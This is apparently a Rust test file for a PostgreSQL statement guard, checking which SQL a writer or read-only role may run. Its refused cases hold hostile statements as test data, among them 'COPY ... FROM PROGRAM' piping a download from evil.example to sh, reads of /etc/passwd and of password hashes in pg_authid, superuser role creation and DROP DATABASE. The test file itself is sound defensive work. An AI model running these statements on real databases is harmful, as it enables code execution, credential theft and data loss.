//! The write policy, as a table: what a writer may run and what nobody may.
#![allow(clippy::unwrap_used)]

use sluice_sqlguard::{Guard, Policy, StatementKind, Verdict};

/// (sql, expected: Ok(kind) or Err(reason))
type Case = (&'static str, Result<StatementKind, &'static str>);

fn judge(guard: &Guard, cases: &[Case]) {
    let mut wrong = Vec::new();
    for (sql, expected) in cases {
        let got = match guard.check(sql) {
            Verdict::Allowed(allowed) => Ok(allowed.kind),
            Verdict::Refused(refusal) => Err(refusal.reason.as_str()),
            other => panic!("unexpected verdict {other:?}"),
        };
        if got != *expected {
            wrong.push(format!("{sql}\n    expected {expected:?}, got {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn writers_may_change_data_but_nothing_else() {
    use StatementKind::*;
    judge(
        &Guard::write(),
        &[
            ("INSERT INTO t (a) VALUES (1)", Ok(Insert)),
            ("INSERT INTO t (a) SELECT a FROM s RETURNING *", Ok(Insert)),
            (
                "INSERT INTO t (id) VALUES (nextval('t_id_seq'))",
                Ok(Insert),
            ),
            (
                "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
                Ok(Insert),
            ),
            ("UPDATE t SET a = a + 1 WHERE id = 3", Ok(Update)),
            ("UPDATE t SET a = 1", Ok(Update)),
            ("DELETE FROM t WHERE id = 3", Ok(Delete)),
            ("DELETE FROM t USING s WHERE t.id = s.id", Ok(Delete)),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
                Ok(Merge),
            ),
            ("SELECT * FROM t", Ok(Query)),
            (
                "WITH d AS (DELETE FROM t RETURNING id) INSERT INTO log SELECT id FROM d",
                Ok(Insert),
            ),
            (
                "INSERT INTO t (a) VALUES (1); DELETE FROM t",
                Err("multiple_statements"),
            ),
            (
                "INSERT INTO t (a) VALUES (pg_sleep(1))",
                Err("function_not_allowed"),
            ),
            (
                "UPDATE t SET a = pg_read_file('/etc/passwd')",
                Err("function_not_allowed"),
            ),
            (
                "DELETE FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)",
                Err("function_not_allowed"),
            ),
            ("CREATE TABLE x (a int)", Err("statement_not_allowed")),
            ("DROP TABLE t", Err("statement_not_allowed")),
            ("TRUNCATE t", Err("statement_not_allowed")),
            ("DROP DATABASE postgres", Err("statement_not_allowed")),
            ("DROP SCHEMA public CASCADE", Err("statement_not_allowed")),
            ("ALTER SYSTEM SET fsync = off", Err("unparsable")),
            (
                "COPY t FROM PROGRAM 'curl evil.example | sh'",
                Err("statement_not_allowed"),
            ),
            ("COPY t TO '/tmp/stolen.csv'", Err("statement_not_allowed")),
            ("CREATE EXTENSION dblink", Err("statement_not_allowed")),
            (
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
                Err("statement_not_allowed"),
            ),
            ("CREATE LANGUAGE plperlu", Err("unparsable")),
            ("GRANT ALL ON t TO PUBLIC", Err("statement_not_allowed")),
            ("REVOKE ALL ON t FROM alice", Err("statement_not_allowed")),
            ("CREATE ROLE evil SUPERUSER", Err("statement_not_allowed")),
            ("ALTER ROLE alice SUPERUSER", Err("statement_not_allowed")),
            ("SET ROLE postgres", Err("statement_not_allowed")),
            (
                "SET SESSION AUTHORIZATION postgres",
                Err("statement_not_allowed"),
            ),
            ("BEGIN", Err("statement_not_allowed")),
            ("COMMIT", Err("statement_not_allowed")),
            ("ROLLBACK", Err("statement_not_allowed")),
            ("CALL wipe()", Err("statement_not_allowed")),
        ],
    );
}

#[test]
fn ddl_on_tables_views_and_indexes_only_when_enabled() {
    use StatementKind::*;
    judge(
        &Guard::new(Policy::write().allow_ddl(true)),
        &[
            ("CREATE TABLE x (a int PRIMARY KEY)", Ok(Create)),
            ("CREATE VIEW v AS SELECT a FROM t", Ok(Create)),
            ("CREATE INDEX t_a ON t (a)", Ok(Create)),
            ("ALTER TABLE t ADD COLUMN b text", Ok(Alter)),
            ("DROP TABLE t", Ok(Drop)),
            ("DROP VIEW v", Ok(Drop)),
            ("DROP INDEX t_a", Ok(Drop)),
            ("DROP SCHEMA public CASCADE", Err("statement_not_allowed")),
            ("DROP DATABASE postgres", Err("statement_not_allowed")),
            ("CREATE EXTENSION dblink", Err("statement_not_allowed")),
            ("CREATE SCHEMA evil", Err("statement_not_allowed")),
            ("DROP ROLE alice", Err("statement_not_allowed")),
            (
                "CREATE TABLE x AS SELECT pg_sleep(1)",
                Err("function_not_allowed"),
            ),
        ],
    );
}

#[test]
fn where_can_be_required() {
    use StatementKind::*;
    judge(
        &Guard::new(Policy::write().require_where(true)),
        &[
            ("UPDATE t SET a = 1", Err("missing_where")),
            ("DELETE FROM t", Err("missing_where")),
            ("UPDATE t SET a = 1 WHERE true", Ok(Update)),
            ("DELETE FROM t WHERE id = 1", Ok(Delete)),
        ],
    );
}

#[test]
fn verdicts_name_what_is_read_and_written() {
    let verdict = Guard::write().check(
        "WITH gone AS (DELETE FROM public.orders WHERE status = 'x' RETURNING id) \
         INSERT INTO audit (order_id) SELECT id FROM gone JOIN customers c ON true",
    );
    let Verdict::Allowed(allowed) = verdict else {
        panic!("{verdict:?}")
    };
    assert_eq!(allowed.writes, ["audit", "public.orders"]);
    assert_eq!(allowed.reads, ["customers"]);
}

#[test]
fn the_allow_list_is_data_the_user_extends() {
    let sql = "SELECT analytics.safe_score(id) FROM t";
    assert!(!Guard::read_only().check(sql).is_allowed());
    let guard = Guard::new(Policy::read_only().allow_function("Analytics.Safe_Score"));
    assert!(guard.check(sql).is_allowed());
    // Qualified with another schema, it is another function.
    assert!(
        !guard
            .check("SELECT public.safe_score(id) FROM t")
            .is_allowed()
    );
    // And a function can be taken off the list.
    let guard = Guard::new(Policy::read_only().deny_function("version"));
    assert!(!guard.check("SELECT version()").is_allowed());
}

#[test]
fn refusal_messages_say_what_to_do() {
    let guard = Guard::read_only();
    let cases = [
        ("SELECT 1; SELECT 2", "only one statement per call; found 2"),
        (
            "SELECT pg_sleep(1)",
            "function pg_sleep is not allowed in read-only queries",
        ),
        (
            "SELECT PG_CATALOG.PG_SLEEP(1)",
            "function pg_catalog.pg_sleep is not allowed",
        ),
        ("DELETE FROM t", "DELETE changes data"),
        ("SELECT * FROM t FOR UPDATE", "remove the FOR … clause"),
        ("SELEC 1", "could not parse"),
    ];
    for (sql, needle) in cases {
        let verdict = guard.check(sql);
        let message = &verdict
            .refusal()
            .unwrap_or_else(|| panic!("{sql}: {verdict:?}"))
            .message;
        assert!(message.contains(needle), "{sql}: {message}");
    }
}

#[test]
fn writers_may_not_touch_the_system_catalogs() {
    use StatementKind::*;
    judge(
        &Guard::write(),
        &[
            (
                "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
                Err("system_catalog_write"),
            ),
            (
                "UPDATE pg_catalog.pg_database SET datallowconn = false WHERE datname = 'x'",
                Err("system_catalog_write"),
            ),
            (
                "INSERT INTO pg_catalog.pg_description VALUES (1, 2, 0, 'x')",
                Err("system_catalog_write"),
            ),
            (
                "DELETE FROM pg_catalog.pg_class WHERE oid = 1",
                Err("system_catalog_write"),
            ),
            (
                "DELETE FROM \"pg_catalog\".pg_proc WHERE oid = 1",
                Err("system_catalog_write"),
            ),
            (
                "UPDATE information_schema.sql_features SET comments = 'x' WHERE true",
                Err("system_catalog_write"),
            ),
            (
                "INSERT INTO pg_temp.shadow VALUES (1)",
                Err("system_catalog_write"),
            ),
            (
                "WITH d AS (DELETE FROM pg_largeobject RETURNING loid) SELECT * FROM d",
                Err("system_catalog_write"),
            ),
            (
                "MERGE INTO pg_catalog.pg_class c USING s ON c.oid = s.id WHEN MATCHED THEN DELETE",
                Err("system_catalog_write"),
            ),
            // DDL, where enabled, names its target too.
            (
                "CREATE VIEW pg_catalog.v AS SELECT 1",
                Err("statement_not_allowed"),
            ),
            // A table of one's own whose name starts with pg_, written with its schema.
            ("INSERT INTO public.pg_notes VALUES (1)", Ok(Insert)),
            // INTO in any branch of a set operation, for writers too.
            (
                "SELECT * INTO TEMP customers FROM t UNION SELECT * FROM t",
                Err("select_into"),
            ),
            // Secrets stay secret for writers, in reads and in what they copy.
            (
                "INSERT INTO t SELECT rolpassword FROM pg_authid",
                Err("sensitive_relation"),
            ),
            (
                "UPDATE t SET a = (SELECT query FROM pg_stat_activity LIMIT 1) WHERE true",
                Err("sensitive_relation"),
            ),
        ],
    );
}

#[test]
fn ddl_never_targets_the_catalogs() {
    let guard = Guard::new(Policy::write().allow_ddl(true));
    for sql in [
        "CREATE VIEW pg_catalog.v AS SELECT 1",
        "CREATE VIEW pg_temp.customers AS SELECT 1 AS id",
        "CREATE INDEX i ON pg_catalog.pg_class (relname)",
        "ALTER TABLE pg_class ADD COLUMN x int",
        "DROP TABLE pg_catalog.pg_description",
    ] {
        assert_eq!(
            guard.check(sql).refusal().map(|r| r.reason.as_str()),
            Some("system_catalog_write"),
            "{sql}"
        );
    }
    assert!(guard.check("CREATE VIEW public.v AS SELECT 1").is_allowed());
}

#[test]
fn sensitive_relations_are_a_list_the_operator_can_change() {
    let monitoring = Guard::new(Policy::read_only().allow_relation("pg_catalog.pg_stat_activity"));
    assert!(
        monitoring
            .check("SELECT query FROM pg_stat_activity")
            .is_allowed()
    );
    assert!(!monitoring.check("SELECT * FROM pg_authid").is_allowed());
    let strict = Guard::new(Policy::read_only().deny_relation("audit.secrets"));
    assert!(!strict.check("SELECT * FROM audit.secrets").is_allowed());
    assert!(!strict.check("SELECT * FROM secrets").is_allowed());
    assert!(strict.check("SELECT * FROM other.table_x").is_allowed());
    assert!(
        Policy::read_only()
            .sensitive_relations()
            .contains(&"pg_catalog.pg_authid")
    );
}

#[test]
fn long_names_are_judged_as_postgres_truncates_them() {
    // PostgreSQL resolves the first 63 bytes of a longer name, so the guard judges (and
    // hands the catalog check) those, not the name as written.
    let long = format!("f{}", "x".repeat(80));
    let truncated: String = long.chars().take(63).collect();
    let guard = Guard::new(Policy::read_only().allow_function(&format!("public.{truncated}")));
    assert!(guard.check(&format!("SELECT public.{long}()")).is_allowed());
    let Verdict::Allowed(allowed) = Guard::read_only().check(&format!("SELECT {long} FROM t"))
    else {
        panic!("a long column name");
    };
    assert_eq!(allowed.names.routines, Vec::<String>::new());
    let Verdict::Allowed(allowed) = Guard::read_only().check(&format!("SELECT c.{long} FROM t c"))
    else {
        panic!("a long qualified name");
    };
    assert_eq!(allowed.names.routines, [truncated]);
}
